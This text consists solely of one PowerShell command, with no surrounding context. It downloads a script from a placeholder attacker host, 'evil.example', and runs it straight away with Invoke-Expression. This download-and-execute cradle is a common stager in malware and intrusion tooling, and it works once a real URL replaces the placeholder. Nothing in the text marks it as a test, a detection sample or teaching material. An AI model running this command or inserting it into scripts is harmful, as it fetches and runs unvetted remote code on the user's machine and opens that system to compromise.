$wc = New-Object System.Net.WebClient; $s = $wc.DownloadString("https://evil.example/a"); iex $s
